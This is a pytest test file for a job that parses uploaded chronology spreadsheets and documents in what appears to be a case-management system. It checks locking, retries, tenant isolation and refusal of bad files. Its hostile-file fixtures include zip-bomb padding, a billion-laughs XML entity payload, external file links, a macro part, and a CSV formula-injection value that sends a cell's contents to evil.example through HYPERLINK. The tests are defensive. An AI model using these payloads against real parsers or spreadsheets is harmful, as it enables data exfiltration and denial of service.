"""Chronologies read by a job: whole or not at all, and whatever the file does, the job goes on."""

import signal
from pathlib import Path

import pytest
from redis import Redis
from rq import Queue
from sqlalchemy import func, select

from domain.audit.models import Event
from domain.chronologies.kept import alone, apart, keeping
from domain.chronologies.kept.arriving import arrived, read_again
from domain.chronologies.kept.models import Chronology, ChronologyEntry, ChronologyQuery, State
from domain.chronologies.reading import bounds, hearing
from domain.errors import NotFound
from domain.files.models import StoredFile
from domain.files.store import keep_file
from domain.notices.models import Notice
from domain.requests.contribution import DatedPart, Upload, contribute
from domain.requests.queries import request_by_id
from tests.domain.chronologies.reading.made import zipped
from tests.domain.chronologies.reading.test_hostile_files import (
    LAUGHS,
    SHEET,
    changed,
    ods,
    parts_of,
    small_workbook,
)
from tests.support.cases import asked_agency, referred_case
from tests.workers.standing import context_of, standing_on
from web.nudge import Nudger
from workers.context import UnknownBoard
from workers.jobs import chronologies

SAMPLES = Path(__file__).parents[1] / "domain" / "chronologies" / "samples"
NURSERY = SAMPLES / "nursery chronology.docx"


@pytest.fixture
def case(cast):
    reference = referred_case(cast)
    return reference, asked_agency(cast, reference)


@pytest.fixture
def at(cast, runtime):
    with standing_on(context_of(runtime)) as made:
        yield made


def came(cast, runtime, case, content, name):
    """A file that lies in the store and waits, however it came by every check before."""
    with cast.session(who="liaison") as session:
        actor = cast.actor("northshire", "liaison")
        request = request_by_id(session, case[1])
        file = StoredFile(
            case_id=request.case_id, agency_id=request.agency_id, name=name, media_type="x/x"
        )
        keep_file(session, runtime.files, file, content)
        row = arrived(session, actor, file, content)
        row.request_id = request.id
        session.flush()
        return row.id


def look(cast, row_id):
    with cast.session() as session:
        row = session.get_one(Chronology, ("northshire", row_id))
        counts = [
            session.scalar(
                select(func.count()).select_from(model).where(model.chronology_id == row_id)
            )
            for model in (ChronologyEntry, ChronologyQuery)
        ]
        return row.state, row.because, *counts


def test_an_answer_that_brings_a_chronology_has_it_read(cast, runtime, at, case):
    with cast.session(who="liaison") as session:
        contribute(
            session,
            cast.actor("northshire", "liaison"),
            request_by_id(session, case[1]),
            body=None,
            uploads=[Upload("letter.txt", b"With our regards.")],
            store=runtime.files,
            dated=DatedPart(Upload(NURSERY.name, NURSERY.read_bytes())),
        )
        session.flush()
        [(_, board, row_id)] = session.info["wakes"]
    assert look(cast, row_id)[0] == State.WAITING
    assert chronologies.read(board, str(row_id)) == "ready"
    state, because, entries, queries = look(cast, row_id)
    assert (state, because) == (State.READY, None)
    assert entries > 10
    assert queries > 0
    with cast.system_session() as session:
        told = session.scalars(
            select(Notice.recipient_id).where(Notice.kind == "chronology_ready")
        ).all()
    assert cast.member("northshire", "liaison") in told
    assert cast.member("northshire", "manager") in told


def test_a_table_that_answers_a_request_for_a_chronology_is_read_too(cast, runtime, at, case):
    with cast.session(who="liaison") as session:
        contribute(
            session,
            cast.actor("northshire", "liaison"),
            request_by_id(session, case[1]),
            body="See the file.",
            uploads=[Upload("a.xlsx", small_workbook()), Upload("b.txt", b"A letter.")],
            store=runtime.files,
        )
        assert len(session.info["wakes"]) == 1
    assert chronologies.sweep() == 1


def test_reading_again_makes_nothing_twice(cast, runtime, at, case):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    assert chronologies.read("northshire", str(row_id)) == "ready"
    before = look(cast, row_id)
    assert chronologies.read("northshire", str(row_id)) == "not_waiting"
    with cast.session() as session:
        row = session.get_one(Chronology, ("northshire", row_id))
        read_again(session, cast.actor("northshire", "manager"), row, day_order="month-first")
    assert chronologies.sweep() == 1
    assert look(cast, row_id) == before
    with cast.session() as session:
        days = session.scalars(select(ChronologyEntry.first_day).order_by(ChronologyEntry.place))
        assert [str(day) for day in days] == ["2014-03-03", "2014-04-03"]


def test_what_a_killed_job_had_begun_is_read_from_the_start(cast, runtime, at, case, monkeypatch):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")

    class Killed(BaseException):
        """Nothing catches it, as nothing catches a kill."""

    def killed(*_, **__):
        raise Killed

    monkeypatch.setattr(keeping, "ChronologyQuery", killed)  # the entries are in, the queries not
    monkeypatch.setattr(keeping.Kept, "queries", killed)
    with pytest.raises(Killed):
        chronologies.read("northshire", str(row_id))
    monkeypatch.undo()
    assert look(cast, row_id)[:3:2] == (State.READING, 0)
    assert chronologies.sweep() == 1
    assert look(cast, row_id)[:3:2] == (State.READY, 2)


def test_two_jobs_do_not_read_one_file_at_once(cast, runtime, at, case):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    with at.at_board("northshire") as held:
        assert chronologies.alone_with(held, row_id)
        assert chronologies.read("northshire", str(row_id)) == "in_hand"
        assert chronologies.sweep() == 0
    assert chronologies.sweep() == 1


def test_a_job_for_another_boards_file_refuses(cast, runtime, at, case):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    with pytest.raises(NotFound):
        chronologies.read("eastmoor", str(row_id))
    with pytest.raises(UnknownBoard):
        chronologies.read("nowhere", str(row_id))
    assert look(cast, row_id)[0] == State.WAITING


MANY_COLUMNS = ",".join(f"c{at}" for at in range(50_000))
LINK = b'<Relationship Id="r9" TargetMode="External" Target="file://server/share/book.xlsx" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/>'
CLAIM = '<table:table-row><table:table-cell office:value-type="string" table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell></table:table-row>'


def hostile():
    book = small_workbook()
    return {
        "a zip bomb": (
            changed(book, SHEET, lambda xml: xml + b" " * 150_000_000),
            "a.xlsx",
            bounds.TOO_BIG,
        ),
        "a billion laughs": (
            changed(book, SHEET, lambda xml: xml.replace(b"<worksheet", LAUGHS.encode() + b"<worksheet")),
            "a.xlsx",
            bounds.HALF,
        ),
        "external links": (
            zipped(
                {
                    **parts_of(book),
                    "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                    "xl/externalLinks/_rels/externalLink1.xml.rels": b"<Relationships>" + LINK + b"</Relationships>",
                }
            ),
            "a.xlsx",
            bounds.LINKED,
        ),
        "macros": (zipped({**parts_of(book), "xl/vbaProject.bin": b"x"}), "a.xlsx", bounds.MACROS),
        "fifty thousand columns": (MANY_COLUMNS.encode(), "a.csv", bounds.TOO_WIDE),
        "a cell that claims two gigabytes": (ods(CLAIM), "a.ods", bounds.TOO_WIDE),
        "a wrong ending": (book, "a.docx", bounds.MISNAMED),
        "half a file": (book[: len(book) // 2], "a.xlsx", bounds.HALF),
        "half an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "a.xls", bounds.HALF),
        "nothing": (b"", "a.xlsx", bounds.EMPTY),
    }  # fmt: skip


@pytest.mark.parametrize("what", hostile())
def test_a_hostile_file_is_refused_in_words_and_the_next_is_read(cast, runtime, at, case, what):
    content, name, sentence = hostile()[what]
    bad = came(cast, runtime, case, content, name)
    good = came(cast, runtime, case, small_workbook(), "good.xlsx")
    assert chronologies.sweep() == 1
    assert look(cast, bad) == (State.UNREADABLE, sentence, 0, 0)
    assert look(cast, good)[0] == State.READY
    with cast.system_session() as session:
        told = session.scalars(
            select(Notice.recipient_id).where(Notice.kind == "chronology_unreadable")
        ).all()
    assert told == [cast.member("northshire", "liaison")]


def test_formulas_are_words_and_nothing_else(cast, runtime, at, case):
    told = '=HYPERLINK("http://evil.example/"&A1,"look")'
    row_id = came(cast, runtime, case, f'Date,Event\n03/03/2014,"{told.replace(chr(34), chr(34) * 2)}"\n'.encode(), "a.csv")  # fmt: skip
    assert chronologies.read("northshire", str(row_id)) == "ready"
    with cast.session() as session:
        assert told in session.scalars(select(ChronologyEntry)).one().told.replace('\\"', '"')


def test_a_file_that_takes_too_much_memory_is_refused_and_nothing_else_is_disturbed(
    cast, runtime, at, case, monkeypatch
):
    small = Path(alone.__file__).read_text(encoding="utf-8").replace("2_000_000_000", "90_000_000")
    monkeypatch.setattr(apart, "CHILD", ("-c", small))
    much = b"Date,Event\n" + b"03/03/2014,A visit\n" * 200_000
    row_id = came(cast, runtime, case, much, "a.csv")
    assert chronologies.read("northshire", str(row_id)) == "unreadable"
    assert look(cast, row_id) == (State.UNREADABLE, bounds.TOO_BIG, 0, 0)


def test_a_reader_that_is_killed_is_a_refusal_and_leaves_nothing(cast, runtime, at, case, monkeypatch):  # fmt: skip
    monkeypatch.setattr(
        apart, "CHILD", ("-c", f"import os, sys; sys.stdin.buffer.read(); os.kill(os.getpid(), {signal.SIGKILL:d})")
    )  # fmt: skip
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    assert chronologies.read("northshire", str(row_id)) == "unreadable"
    assert look(cast, row_id)[2:] == (0, 0)


def test_the_process_that_reads_is_given_no_key(monkeypatch):
    monkeypatch.setenv("CANDOUR_MASTER_KEY", "a secret")
    monkeypatch.setattr(
        apart,
        "CHILD",
        (
            "-c",
            "import os, sys, json; sys.stdin.buffer.read(); print(json.dumps(' '.join(os.environ)))",
        ),
    )
    with (
        pytest.raises(bounds.Unreadable) as said,
        apart.read_apart(b"x", apart.Wanted("a.csv")),
    ):
        pass
    assert "MASTER" not in said.value.message
    assert "PATH" in said.value.message


def test_whoever_waits_is_told_how_many_rows_were_read_and_then_how_many_are_kept(
    cast, runtime, at, case, monkeypatch
):
    noted = []
    monkeypatch.setattr(
        chronologies, "note_progress", lambda _, __, done, in_all: noted.append((done, in_all))
    )
    rows = hearing.EVERY + 1_000
    long = b"Date,Event\n" + b"03/03/2014,A visit\n" * rows
    row_id = came(cast, runtime, case, long, "a.csv")
    assert chronologies.read("northshire", str(row_id)) == "ready"
    read, *kept = noted
    assert read == (hearing.EVERY, 0)
    assert {in_all for _, in_all in kept} == {kept[-1][0]}
    assert kept[-1][0] > rows


def test_a_nudge_carries_a_board_and_a_row_and_goes_to_a_queue_that_waits_for_others(
    cast, runtime, at, case, redis_url
):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    Nudger(redis_url).wake([("chronology.read", "northshire", row_id)])
    with Redis.from_url(redis_url) as client:
        [job] = Queue("files", connection=client, serializer="json").jobs
        assert (job.func_name, list(job.args)) == (
            "workers.jobs.chronologies.read",
            ["northshire", str(row_id)],
        )
        assert job.timeout == 1800


def test_without_the_queue_a_wake_is_harmless(tmp_path, cast):
    Nudger(f"unix://{tmp_path / 'no-redis.sock'}").wake(
        [("chronology.read", "northshire", cast.member("northshire", "manager"))]
    )


def test_the_record_says_who_brought_it_and_what_came_of_it(cast, runtime, at, case):
    row_id = came(cast, runtime, case, small_workbook(), "a.xlsx")
    chronologies.sweep()
    with cast.system_session() as session:
        rows = session.execute(
            select(Event.action, Event.particulars).where(Event.subject_id == row_id)
        ).all()
    assert [tuple(row) for row in rows] == [
        ("chronology.ready", {"entries": 2, "queries": 0, "reason": "chronologies.read"})
    ]
